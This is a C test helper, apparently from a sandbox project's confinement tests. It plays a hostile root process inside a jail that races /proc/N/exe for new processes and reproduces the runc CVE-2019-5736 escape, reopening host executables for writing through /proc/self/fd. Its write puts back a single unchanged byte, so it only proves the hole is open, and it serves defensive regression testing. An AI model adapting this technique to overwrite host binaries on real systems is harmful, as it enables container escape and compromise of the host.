/* exewatch: the hostile jail process of issue 11 item 1 (tests/confine.sh).
 * Runs as root inside a jail and spins on open("/proc/N/exe") for the next
 * pids the jail's pid namespace hands out (ns_last_pid .. +3), hoping to
 * catch a session child between fork and exec, while it still is the host's
 * jailsh. Every fd it gets is compared (st_dev, st_ino) with the host's
 * jailsh, passed as arguments.
 *
 *	exewatch DEV INO READY [UID]
 *
 * creates READY once it spins and stops on SIGTERM, printing
 *	opened=N caught=M
 *	foreign=F wrote=W
 * where opened counts /proc/N/exe fds it obtained of other processes (of any
 * program; its own pid, often the last one handed out, does not count: a
 * watcher that opened only itself saw nothing) and caught those that were
 * the host's jailsh. Built static so it runs in a busybox jail.
 *
 * Then it does what runc CVE-2019-5736 did (issue 27): every executable it
 * caught that is not a file of the jail (st_dev differs from the jail's /)
 * is foreign; it reopens it through /proc/self/fd for writing at once and
 * again when it stops (once the program exited and the file is no longer
 * busy), and writes the first byte back over itself: wrote counts the
 * files it could write. With UID, /proc/N/exe is opened with that fsuid
 * (a root without CAP_SYS_PTRACE posing as the session's user) and
 * reopened as root. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/fsuid.h>
#include <sys/stat.h>
#include <unistd.h>

#include "watch.h"

#define KEEP 512
static int kept[KEEP];
static int nkept;
static unsigned long wrote;

/* write_back reopens fd for writing and writes its first byte over itself. */
static void write_back(int fd, const char *what)
{
	char path[64], b;
	int w;

	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	w = open(path, O_WRONLY | O_CLOEXEC);
	if (w < 0)
		return;
	if (pread(fd, &b, 1, 0) == 1 && pwrite(w, &b, 1, 0) == 1) {
		wrote++;
		fprintf(stderr, "exewatch: wrote %s\n", what);
	}
	close(w);
}


int main(int argc, char **argv)
{
	unsigned long long dev, ino;
	unsigned long opened = 0, caught = 0, foreign = 0;
	char path[64];
	struct stat st, root;
	int lastfd, fd, i, as = -1;
	long last, p, self = (long)getpid();

	if (argc != 4 && argc != 5) {
		fprintf(stderr, "usage: exewatch DEV INO READY [UID]\n");
		return 2;
	}
	dev = strtoull(argv[1], NULL, 0);
	ino = strtoull(argv[2], NULL, 0);
	if (argc == 5)
		as = atoi(argv[4]);
	if (stat("/", &root) < 0) {
		perror("/");
		return 1;
	}
	lastfd = watch_begin(argv[3]);
	if (lastfd < 0)
		return 1;
	while (!done) {
		last = last_pid(lastfd);
		for (p = last; p <= last + 3 && !done; p++) {
			if (p == self)
				continue;
			snprintf(path, sizeof path, "/proc/%ld/exe", p);
			if (as >= 0)
				setfsuid(as);
			fd = open(path, O_RDONLY | O_CLOEXEC);
			if (as >= 0)
				setfsuid(0);
			if (fd < 0)
				continue;
			opened++;
			if (fstat(fd, &st) == 0 && (unsigned long long)st.st_dev == dev &&
			    (unsigned long long)st.st_ino == ino) {
				caught++;
				fprintf(stderr, "exewatch: /proc/%ld/exe is the host's jailsh\n", p);
			}
			if (fstat(fd, &st) == 0 && st.st_dev != root.st_dev) {
				foreign++;
				write_back(fd, path);
				if (nkept < KEEP) {
					kept[nkept++] = fd;
					continue;
				}
			}
			close(fd);
		}
	}
	for (i = 0; i < nkept; i++)
		write_back(kept[i], "a kept executable");
	printf("opened=%lu caught=%lu\n", opened, caught);
	printf("foreign=%lu wrote=%lu\n", foreign, wrote);
	return 0;
}
